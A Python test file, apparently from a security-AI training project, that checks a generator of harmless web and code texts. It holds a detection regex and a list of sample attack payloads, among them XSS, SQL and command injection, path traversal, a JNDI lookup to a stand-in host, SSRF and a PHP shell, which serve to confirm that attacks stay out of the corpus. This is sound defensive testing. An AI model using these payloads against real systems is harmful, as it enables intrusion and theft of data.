from __future__ import annotations

import re
from random import Random

import pytest

from securitai.train.corpora import kinds as places_of
from securitai.train.corpora import normal
from securitai.train.corpora.kinds import TextKind
from securitai.train.corpora.normal.grammar import MAX_DEPTH, grammar, parse_rules

KINDS = normal.kinds()
PLACES = {
    value for name, value in vars(places_of).items() if name.isupper() and isinstance(value, str)
}
# Domains that are small by nature: codes, header values, keywords, formats.
SMALL = {
    "coded.empty": 0.5,  # the empty functions of one language are few
    "settings.locale": 0.3,
    "bare.operator": 0.1,
    "settings.media": 0.5,
    "settings.zone": 0.5,
    "agents.introspection": 0.6,
    "code.build": 0.01,
    "code.regex": 0.6,
    "forms.file": 0.7,
    "header.accept": 0.3,
    "header.accept_encoding": 0.001,
    "header.accept_language": 0.1,
    "header.client_hint": 0.4,
    "header.control": 0.5,
    "header.origin": 0.4,
    "numbers.cron": 0.4,
    "packed.archive_header": 0.5,
    "quoted.header_text": 0.3,
    "telemetry.fingerprint": 0.6,
    "telemetry.js_error": 0.6,
    "trivia.fixed": 0.05,
    "twins_sql.names": 0.6,
}
# What would be a working attack if it stood alone as a parameter's value.
WORKING = re.compile(
    r"""
      \W*<script[^>]*>\s*(alert|prompt|confirm)\W.*</script>
    | \W*<(img|svg|body|iframe)\b[^>]*\son\w+\s*=[^>]*>?
    | javascript:\s*(alert|prompt|confirm|eval)\b.*
    | ['")\s\d]*(or|and)\s+['"]?(?P<term>\w+)['"]?\s*=\s*['"]?(?P=term)['"]?\s*(--.*|\#.*)?
    | \w+'\s*(--\s*-?|\#)
    | .*\bunion\s+(all\s+)?select\s+(null|\d+)\s*(,\s*(null|\d+)\s*)+(--.*|\#.*)?
    | [\w.'"-]*\s*(;|\||&&?|\|\|)\s*(whoami|id|ls|cat\s+/etc/\w+|sleep\s+\d+|uname\s+-a|ping\s+-c.*)\s*
    | \$\((whoami|id|sleep\s+\d+)\) | `(whoami|id|sleep\s+\d+)`
    | (/?(\.\.|%2e%2e)[/\\])+(etc/passwd|windows/win\.ini|boot\.ini).*
    | (file://)?/etc/(passwd|shadow) | php://(filter|input).* | expect://.*
    | \{\{\s*\d+\s*\*\s*\d+\s*\}\} | \$\{\s*\d+\s*\*\s*\d+\s*\} | <%=\s*\d+\s*\*\s*\d+\s*%> | \#\{\s*\d+\s*\*\s*\d+\s*\}
    | .*\$\{jndi:(ldap|rmi|dns)://[^}]+\}.*
    | .*<!ENTITY\s+%?\s*\w+\s+SYSTEM\s.*
    | \(\)\s*\{\s*:;\s*\};.*
    | https?://169\.254\.169\.254/.*
    | \*\)\(\w+=\*.* | \{"\$(ne|gt|where)":.*\}
    | .*(%0d%0a|\r\n)Set-Cookie:.*
    | __proto__ | constructor\[prototype\].*
    | <\?php\s+(system|eval|passthru|exec)\s*\(.*
    """,
    re.IGNORECASE | re.VERBOSE | re.DOTALL,
)


def draw(kind: TextKind, count: int, seed: int = 1) -> list[str]:
    rng = Random(f"{kind.name} {seed}")
    return [kind.make(rng) for _ in range(count)]


def test_every_kind_has_a_unique_dotted_name_a_weight_and_known_places():
    names = [kind.name for kind in KINDS]

    assert len(names) == len(set(names)) > 150
    assert all(re.fullmatch(r"[a-z_]+\.[a-z0-9_]+", name) for name in names)
    assert all(kind.weight > 0 and kind.places for kind in KINDS)
    assert all(set(kind.places) <= PLACES for kind in KINDS)


def test_every_place_has_harmless_texts():
    assert {place for kind in KINDS for place in kind.places} == PLACES


def test_families_are_sorted_and_listed_once():
    assert list(normal.FAMILIES) == sorted(set(normal.FAMILIES))


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_a_kind_is_deterministic_and_yields_bounded_utf8(kind: TextKind):
    first = draw(kind, 60)

    assert first == draw(kind, 60)
    assert all(len(text.encode()) <= 65536 for text in first)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_a_kind_hardly_repeats_itself(kind: TextKind):
    texts = draw(kind, 500)

    assert len(set(texts)) >= SMALL.get(kind.name, 0.85) * len(texts)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_no_text_is_a_working_attack_by_itself(kind: TextKind):
    found = [text for text in draw(kind, 400, seed=2) if WORKING.fullmatch(text.strip())]

    assert found == []


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "' or 1=1--",
        "1 and 1=1",
        "' or 'a'='a",
        "admin'--",
        "-1 union select null,null--",
        "; cat /etc/passwd",
        "127.0.0.1 && whoami",
        "$(id)",
        "../../../etc/passwd",
        "/etc/passwd",
        "{{7*7}}",
        "${jndi:ldap://x.example/a}",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "() { :; }; echo x",
        "http://169.254.169.254/latest/meta-data/",
        "*)(uid=*",
        '{"$ne":null}',
        "x%0d%0aSet-Cookie: a=b",
        "__proto__",
        "<?php system($_GET[0]); ?>",
    ],
)
def test_the_check_for_working_attacks_knows_them(text: str):
    assert WORKING.fullmatch(text)


def test_texts_reach_many_scripts_and_lengths():
    texts = [text for kind in KINDS for text in draw(kind, 20)]
    characters = set("".join(texts))

    assert all(
        any(low <= char <= high for char in characters)
        for low, high in ("一龥", "あん", "가힣", "את", "ءي", "ая", "αω", "กฮ", "अह")
    )
    assert {len(text).bit_length() for text in texts} >= set(range(1, 12))


def test_a_grammar_inserts_repeats_capitalises_and_chooses():
    made = grammar("@start\n  ‹low^› ‹low*2-2|+›⏎‹=a∕b›\n@low\n  x").make("start")

    assert made(Random(1)) == "X x+x\na/b"


def test_a_grammar_that_recurses_ends():
    made = grammar("@tree\n  leaf\n  (‹tree› ‹tree›)").make("tree")

    texts = [made(Random(seed)) for seed in range(50)]

    assert "leaf" in texts
    assert max(map(len, texts)) < 2 ** (MAX_DEPTH + 4)


def test_a_grammar_prefers_weighted_alternatives():
    made = grammar("@start\n  ×9 a\n  b").make("start")

    texts = [made(Random(seed)) for seed in range(300)]

    assert texts.count("a") > 4 * texts.count("b") > 0


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("  no rule", "stands in no rule"),
        ("@a\nnot indented", "stands in no rule"),
    ],
)
def test_a_line_outside_of_a_rule_is_refused(text: str, message: str):
    with pytest.raises(ValueError, match=message):
        parse_rules(text)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("@start\n  ‹missing_rule›", "no rule 'missing_rule'"),
        ("@start\n  ‹noun", "bracket too many or too few"),
        ("@noun\n  x", "are makers already"),
    ],
)
def test_a_grammar_with_a_mistake_is_refused(text: str, message: str):
    with pytest.raises(ValueError, match=message):
        grammar(text)
